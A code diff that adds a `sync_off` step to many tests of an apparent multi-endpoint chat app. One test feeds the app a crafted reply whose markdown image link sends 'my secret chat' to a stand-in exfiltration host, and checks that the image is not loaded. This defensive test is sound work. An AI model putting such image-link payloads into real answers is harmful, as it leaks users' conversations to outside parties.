@@ -18,6 +18,7 @@ from tests.helpers import (
     send_synced,
     send_to_card,
     state,
+    sync_off,
 )
 
 Config = Callable[..., Path]
@@ -73,6 +74,7 @@ def test_add_button_is_disabled_at_the_cap(write_config: Config, scenario: MakeS
 def test_sync_off_only_the_card_used_answers(write_config: Config, scenario: MakeScenario) -> None:
     write_config(endpoints_toml(Alpha=scenario()))
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     first, second = cards(at)
     send_to_card(at, first, "only me")
     assert [m.content for m in first.messages] == ["only me", "[fake-small] turn 1: only me"]
@@ -118,6 +120,7 @@ def test_sync_on_every_card_streams_at_the_same_time(
 def test_answers_show_their_figures(write_config: Config, scenario: MakeScenario) -> None:
     write_config(endpoints_toml(Alpha=scenario(tokens=10)))
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     send_to_card(at, cards(at)[0], "figures")
     captions = [
         c.value
@@ -138,6 +141,7 @@ def test_a_server_without_usage_is_remembered(
     url = scenario(tokens=2, reject_stream_options=True)
     write_config(endpoints_toml(Alpha=url))
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     send_to_card(at, cards(at)[0], "one")
     send_to_card(at, cards(at)[0], "two")
     bodies = [r.body or {} for r in server.chat_requests(scenario_name(url))]
@@ -184,6 +188,7 @@ def test_custom_validates_base_url_then_chats(
     url = scenario(token="sesame")
     write_config("")  # no endpoints at all: cards start on Custom
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     assert any("No endpoint is configured yet" in i.value for i in at.info)
     first = cards(at)[0]
     at.text_input(key=key(first, "base_url")).set_value("localhost:8000/v1").run()
@@ -201,6 +206,7 @@ def test_custom_validates_base_url_then_chats(
 def test_custom_without_model_id_keeps_prompt_and_explains(write_config: Config) -> None:
     write_config("")
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     first = cards(at)[0]
     at.text_input(key=key(first, "base_url")).set_value("http://127.0.0.1:9/v1").run()
     send_to_card(at, first, "lost?")
@@ -212,6 +218,7 @@ def test_custom_without_model_id_keeps_prompt_and_explains(write_config: Config)
 def test_whitespace_prompt_is_ignored(write_config: Config, scenario: MakeScenario) -> None:
     write_config(endpoints_toml(Alpha=scenario()))
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     send_to_card(at, cards(at)[0], "   \n ")
     assert cards(at)[0].messages == []
 
@@ -283,6 +290,7 @@ def test_prompt_sent_with_an_edit_uses_the_edited_fields(
     url = scenario()
     write_config("")
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     first = cards(at)[0]
     at.text_input(key=key(first, "base_url")).set_value(url)
     at.text_input(key=key(first, "model_id")).set_value("fake-large")
@@ -296,6 +304,7 @@ def test_images_in_answers_are_not_loaded_unless_allowed(
     crafted = "Look: ![chart](http://exfil.invalid/?q=my+secret+chat) and <b>bold</b>"
     write_config(endpoints_toml(Alpha=scenario(reply=crafted)))
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     first = cards(at)[0]
     send_to_card(at, first, "show me")
     answer = next(m for m in at.chat_message if m.name == "assistant").markdown[0].value
@@ -312,6 +321,7 @@ def test_images_in_answers_are_not_loaded_unless_allowed(
 def test_a_200_kb_prompt_goes_through(write_config: Config, scenario: MakeScenario) -> None:
     write_config(endpoints_toml(Alpha=scenario(chunk_chars=8192)))
     at = new_app()
+    sync_off(at)  # the first page opens synced; this test types into one card
     prompt = "x" * 200_000
     send_to_card(at, cards(at)[0], prompt)
     answer = cards(at)[0].messages[-1]
